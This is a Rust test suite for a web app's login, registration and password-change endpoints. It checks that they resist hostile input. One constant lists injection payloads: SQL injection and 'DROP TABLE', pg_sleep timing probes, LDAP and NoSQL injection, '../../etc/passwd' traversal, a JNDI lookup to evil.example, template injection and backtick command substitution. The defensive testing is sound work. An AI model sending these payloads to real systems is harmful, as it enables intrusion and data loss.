//! Chapter L: signing in, registering and changing passwords with hostile input.

use http::Method;
use serde_json::{Value, json};
use web::extract::Peer;

use super::{
    percent_encoded,
    target::{Target, assert_grants_nothing},
};
use crate::support::{Db, PASSWORD, TestApp, TestResponse, http::TestListener, on_both_databases};

const WRONG: &str = "another password";
const NEW: &str = "a lantern under snow";

/// Payloads for whatever might put a text together with a query, a command, a template or a path.
const INJECTIONS: [&str; 16] = [
    "' OR '1'='1",
    "' OR 1=1 --",
    "'; DROP TABLE users; --",
    "admin'/*",
    "\" OR \"\"=\"",
    "'||pg_sleep(10)||'",
    "1); SELECT pg_sleep(10); --",
    "*)(uid=*))(|(uid=*",
    "{\"$gt\":\"\"}",
    "[$ne]=1",
    "%00",
    "\u{0}",
    "../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "`id`",
];

/// Every field of the endpoints that take a password, with this value.
fn bodies_with(value: &Value) -> Vec<(&'static str, Value)> {
    vec![
        ("/api/auth/login", json!({ "email": value, "password": PASSWORD })),
        (
            "/api/auth/login",
            json!({ "email": "ada@example.com", "password": value }),
        ),
        (
            "/api/auth/register",
            json!({ "email": value, "password": PASSWORD }),
        ),
        (
            "/api/auth/register",
            json!({ "email": "eve@example.com", "password": value }),
        ),
        (
            "/api/account/password",
            json!({ "current_password": value, "new_password": NEW }),
        ),
        (
            "/api/account/password",
            json!({ "current_password": PASSWORD, "new_password": value }),
        ),
    ]
}

fn header_names(answer: &TestResponse) -> Vec<String> {
    answer.headers.keys().map(ToString::to_string).collect()
}

/// The code of the one field that is refused.
#[track_caller]
fn refused_field(answer: &TestResponse, field: &str) -> String {
    answer.assert_problem(422, "validation_failed");
    let errors = answer.json()["errors"].as_array().expect("a list").clone();
    let of_field = errors.iter().find(|error| error["field"] == field);
    of_field.unwrap_or_else(|| panic!("{field}: {errors:?}"))["code"]
        .as_str()
        .expect("a code")
        .to_owned()
}

async fn attempt(app: &TestApp, peer: &str, headers: &[(&'static str, String)]) -> u16 {
    let mut client = app.anonymous();
    let body = json!({ "email": "unknown@example.com", "password": WRONG });
    let mut request = client.request(Method::POST, "/api/auth/login", Some(body));
    request
        .extensions_mut()
        .insert(Peer(peer.parse().expect("an address")));
    for (name, value) in headers {
        request
            .headers_mut()
            .append(*name, value.parse().expect("a value"));
    }
    client.send(request).await.status
}

on_both_databases! {
    async fn l_03_a_disabled_account_looks_like_a_wrong_password(db: Db) {
        let target = Target::new(db).await;
        let wrong = target.app.anonymous().login("ada@example.com", WRONG).await;
        target.app.execute("UPDATE users SET disabled_at = 1").await;
        let disabled = target.app.anonymous().login("ada@example.com", PASSWORD).await;
        let both = target.app.anonymous().login("ada@example.com", WRONG).await;
        for answer in [&wrong, &disabled, &both] {
            answer.assert_problem(401, "invalid_credentials");
            assert_eq!(answer.text_without_id(), wrong.text_without_id());
            assert_eq!(header_names(answer), header_names(&wrong));
            assert_grants_nothing(answer, "sign-in");
        }
    }

    async fn l_05_a_long_password_is_refused_before_hashing(db: Db) {
        let target = Target::new(db).await;
        // What is announced is refused before it is sent.
        let server = TestListener::start(target.app.router.clone()).await;
        for path in ["/api/auth/login", "/api/auth/register"] {
            for (length, body) in [(65 * 1024, 65 * 1024), (1024 * 1024, 1024), (100 * 1024 * 1024, 0)] {
                let request = format!(
                    "POST {path} HTTP/1.1\r\nhost: localhost:3000\r\ncontent-type: application/json\r\nconnection: close\r\n\
                     content-length: {length}\r\n\r\n{}",
                    "x".repeat(body)
                );
                let status = server.status_of(request.as_bytes()).await;
                // A connection that is closed while more is sent may lose the answer.
                assert!(status == Some(413) || (status.is_none() && body > 0), "{path} {length}: {status:?}");
            }
        }
        // What fits into a body is too long all the same. Without a database nothing can be looked up and counted, so no
        // password can have been hashed.
        target.app.state.store.clone().close().await.expect("closes");
        let long = "x y z ".repeat(2_000);
        let mut client = target.app.anonymous();
        let answer = client.register("eve@example.com", &long).await;
        assert_eq!(refused_field(&answer, "password"), "too_long");
        client.login("ada@example.com", &long).await.assert_problem(401, "invalid_credentials");
    }

    async fn l_06_a_password_is_measured_in_code_points(db: Db) {
        let app = TestApp::with(db, |sections| sections.passwords.queue_timeout = std::time::Duration::from_mins(1)).await;
        // A family of three people is one picture, five code points and eighteen bytes.
        let families = |count: usize| "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}".repeat(count);
        let words = "kettle moss orbit lantern ".repeat(11);
        for (number, (password, code)) in [
            ("kettle moss or".to_owned(), Some("too_short")),
            ("kettle moss orb".to_owned(), None),
            (words[..256].to_owned(), None),
            (words[..257].to_owned(), Some("too_long")),
            ("\u{1f511}\u{1f9ca}\u{1fab5}\u{1f9ed}\u{1f9f5}\u{1fa81}\u{1f989}\u{1f9c0}\u{1fab4}\u{1f6f6}\u{1f941}\u{1f335}\u{1f98a}\u{1f340}".to_owned(), Some("too_short")),
            (format!("{}ab", families(2)), Some("too_short")),
            (format!("moss {} kettle", families(2)), None),
            (format!("{} moss kettle", families(49)), Some("too_long")),
        ]
        .into_iter()
        .enumerate()
        {
            let email = format!("user{number}@example.com");
            let answer = app.anonymous().register(&email, &password).await;
            if let Some(code) = code {
                assert_eq!(refused_field(&answer, "password"), code, "{password}");
            } else {
                assert_eq!(answer.status, 201, "{password}: {}", answer.text());
                assert_eq!(app.anonymous().login(&email, &password).await.status, 200);
            }
        }
    }

    async fn l_08_names_that_look_alike_follow_one_rule(db: Db) {
        let app = TestApp::new(db).await;
        // The same mailbox in other letters is the same account, …
        for (first, others) in [
            ("andr\u{e9}@example.com", &["andre\u{301}@example.com", "ANDR\u{c9}@example.com"][..]),
            ("anna@example.com", &["\u{ff21}nna@example.com", "\u{ff41}\u{ff4e}\u{ff4e}\u{ff41}@example.com"]),
            ("finn@example.com", &["\u{fb01}nn@example.com", "FINN@EXAMPLE.COM"]),
        ] {
            assert_eq!(app.anonymous().register(first, PASSWORD).await.status, 201, "{first}");
            for other in others {
                app.anonymous().register(other, PASSWORD).await.assert_problem(409, "email_taken");
                assert_eq!(app.anonymous().login(other, PASSWORD).await.status, 200, "{other}");
            }
        }
        // … other letters are another account, also where a capital or a font makes them look alike, …
        for email in ["strasse@example.com", "stra\u{df}e@example.com", "ipek@example.com", "\u{131}pek@example.com", "\u{430}nna@example.com"] {
            assert_eq!(app.anonymous().register(email, PASSWORD).await.status, 201, "{email}");
        }
        let dotted = app.anonymous().register("\u{130}pek@example.com", PASSWORD).await.status;
        assert!(matches!(dotted, 201 | 409 | 422), "{dotted}");
        // … and what cannot be seen, or does not end, is no address.
        for email in [
            "an\u{200b}na@example.com",
            "an\u{ad}na@example.com",
            "\u{202e}anna@example.com",
            "anna\u{2066}@example.com",
            "an\u{feff}na@example.com",
        ] {
            let answer = app.anonymous().register(email, PASSWORD).await;
            assert_eq!(refused_field(&answer, "email"), "invalid", "{email:?}");
        }
        let zalgo = format!("z{}@example.com", "\u{301}".repeat(1_000));
        refused_field(&app.anonymous().register(&zalgo, PASSWORD).await, "email");
        app.anonymous().login(&zalgo, PASSWORD).await.assert_problem(401, "invalid_credentials");
        // A password is taken as it was typed.
        let (composed, decomposed) = ("kettle moss orb\u{ef}t", "kettle moss orbi\u{308}t");
        assert_eq!(app.anonymous().register("typed@example.com", composed).await.status, 201);
        app.anonymous().login("typed@example.com", decomposed).await.assert_problem(401, "invalid_credentials");
    }

    async fn l_11_every_character_of_a_password_counts(db: Db) {
        let app = TestApp::new(db).await;
        let password = "kettle moss orbit lantern ".repeat(9)[..230].to_owned();
        assert_eq!(app.anonymous().register("ada@example.com", &password).await.status, 201);
        // Other functions stop at 72 bytes, or at a NUL.
        for other in [password[..72].to_owned(), format!("{}x", &password[..229]), format!("{}\u{0}{}", &password[..72], &password[73..]), format!("{password}x")] {
            app.anonymous().login("ada@example.com", &other).await.assert_problem(401, "invalid_credentials");
        }
        assert_eq!(app.anonymous().login("ada@example.com", &password).await.status, 200);
        let with_nul = "kettle moss orbit\u{0}lantern";
        assert_eq!(app.anonymous().register("nul@example.com", with_nul).await.status, 201);
        app.anonymous().login("nul@example.com", "kettle moss orbit").await.assert_problem(401, "invalid_credentials");
        app.anonymous().login("nul@example.com", "kettle moss orbit\u{0}another").await.assert_problem(401, "invalid_credentials");
    }

    async fn l_15_no_header_changes_whose_limit_counts(db: Db) {
        let app = TestApp::with(db, |sections| {
            sections.limits.attempts_per_minute = 2;
            sections.http.trusted_proxies = web::config::TrustedProxies::None;
        })
        .await;
        let peer = "192.0.2.7:1";
        for _ in 0..2 {
            assert_eq!(attempt(&app, peer, &[]).await, 401);
        }
        assert_eq!(attempt(&app, peer, &[]).await, 429);
        for name in [
            "x-forwarded-for", "x-forwarded-host", "x-real-ip", "x-client-ip", "x-cluster-client-ip", "x-originating-ip",
            "x-remote-addr", "true-client-ip", "cf-connecting-ip", "fastly-client-ip", "fly-client-ip", "via", "forwarded",
        ] {
            for value in [
                "198.51.100.1".to_owned(),
                "198.51.100.1:443".into(),
                "127.0.0.1".into(),
                "198.51.100.1, 198.51.100.2, 198.51.100.3".into(),
                "for=198.51.100.1;proto=https".into(),
                "for=\"[2001:db8::1%25eth0]:443\"".into(),
                "fe80::1%eth0".into(),
                "::ffff:198.51.100.1".into(),
                "unknown".into(),
                "198.51.100.1,".repeat(800),
            ] {
                let status = attempt(&app, peer, &[(name, value.clone())]).await;
                assert_eq!(status, 429, "{name}: {value:.60}");
            }
        }
        // Another client is not concerned.
        assert_eq!(attempt(&app, "198.51.100.1:1", &[]).await, 401);
    }

    async fn l_23_no_field_is_a_part_of_a_query(db: Db) {
        let mut target = Target::new(db).await;
        for text in INJECTIONS {
            for (path, body) in bodies_with(&json!(text)) {
                if body["new_password"] == text || (path == "/api/auth/register" && body["password"] == text) {
                    continue;
                }
                let mut client = if path == "/api/account/password" { target.user.clone() } else { target.app.anonymous() };
                let answer = client.post(path, Some(body)).await;
                assert!((400..500).contains(&answer.status), "{path} {text}: {}", answer.text());
                assert_eq!(answer.cookies_set().count(), 0);
                for leaked in ["SQL", "sql", "column", "argon", "panicked", "Error", "RequestBody"] {
                    assert!(!answer.text().contains(leaked), "{path} {text}: {}", answer.text());
                }
            }
            // Ten wrong current passwords in a row are counted; that is another matter.
            target.app.execute("DELETE FROM sign_in_failures").await;
            for path in [
                format!("/api/sessions/{}", percent_encoded(text)),
                format!("/api/sessions?after={}", percent_encoded(text)),
                format!("/api/account/events?before={}", percent_encoded(text)),
            ] {
                let method = if path.contains('?') { Method::GET } else { Method::DELETE };
                let request = target.user.request(method, &path, None);
                let answer = target.user.send(request).await;
                assert!(matches!(answer.status, 404 | 405 | 422), "{path}: {}", answer.text());
            }
        }
        // As the password of an account they are texts like any other.
        for text in INJECTIONS {
            let password = format!("{text} kettle moss orbit");
            let mut client = target.app.anonymous();
            if client.register("eve@example.com", &password).await.status == 201 {
                target.app.anonymous().login("eve@example.com", PASSWORD).await.assert_problem(401, "invalid_credentials");
                assert_eq!(target.app.anonymous().login("eve@example.com", &password).await.status, 200, "{text}");
                let request = client.request(Method::DELETE, "/api/account", Some(json!({ "current_password": password })));
                assert_eq!(client.send(request).await.status, 204, "{text}");
            }
        }
        target.assert_unharmed_but_rotated().await;
    }

    async fn l_24_a_field_has_one_type(db: Db) {
        let target = Target::new(db).await;
        for value in [json!(1), json!(1.5), json!(true), json!(null), json!([]), json!([PASSWORD]), json!({}), json!({ "$ne": "" }), json!({ "length": 20 })] {
            for (path, body) in bodies_with(&value) {
                let mut client = if path == "/api/account/password" { target.user.clone() } else { target.app.anonymous() };
                let answer = client.post(path, Some(body)).await;
                answer.assert_problem(422, "validation_failed");
                assert_eq!(answer.cookies_set().count(), 0);
                assert!(!answer.text().contains("Request"), "our types are not named: {}", answer.text());
            }
            let remember = json!({ "email": "ada@example.com", "password": PASSWORD, "remember": value });
            if !value.is_boolean() {
                target.app.anonymous().post("/api/auth/login", Some(remember)).await.assert_problem(422, "validation_failed");
            }
        }
        target.assert_unharmed().await;
    }

    async fn l_33_strange_names_are_names(db: Db) {
        let app = TestApp::with(db, |sections| sections.limits.enabled = false).await;
        for name in ["admin", "null", "undefined", "__proto__", "constructor", "tostring", "nan", "0", "-1", "true", "a", "root", "select"] {
            let email = format!("{name}@example.com");
            let body = json!({ "email": email, "password": PASSWORD, "display_name": name });
            let mut client = app.anonymous();
            let answer = client.post("/api/auth/register", Some(body)).await;
            assert_eq!(answer.status, 201, "{name}: {}", answer.text());
            let me = client.get("/api/me").await.json();
            assert_eq!((&me["email"], &me["display_name"]), (&json!(email), &json!(name)));
            assert_eq!(me["role"], "user", "{name}");
            // A name alone is no address.
            assert_eq!(refused_field(&app.anonymous().register(name, PASSWORD).await, "email"), "invalid", "{name}");
        }
        let mut client = app.anonymous();
        assert_eq!(client.register("ada@example.com", PASSWORD).await.status, 201);
        for (name, accepted) in [
            ("\u{1f511}".to_owned(), true),
            ("\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}".to_owned(), true),
            ("x".repeat(64), true),
            ("x".repeat(255), false),
            ("x".repeat(256), false),
            ("\u{200d}".to_owned(), false),
        ] {
            let answer = client.patch("/api/me", json!({ "display_name": name })).await;
            assert_eq!(answer.status, if accepted { 200 } else { 422 }, "{name}");
        }
        for (local, accepted) in [(64, true), (65, false), (255, false), (256, false)] {
            let email = format!("{}@example.com", "l".repeat(local));
            let answer = app.anonymous().register(&email, PASSWORD).await;
            assert_eq!(answer.status, if accepted { 201 } else { 422 }, "{local}");
        }
    }
}
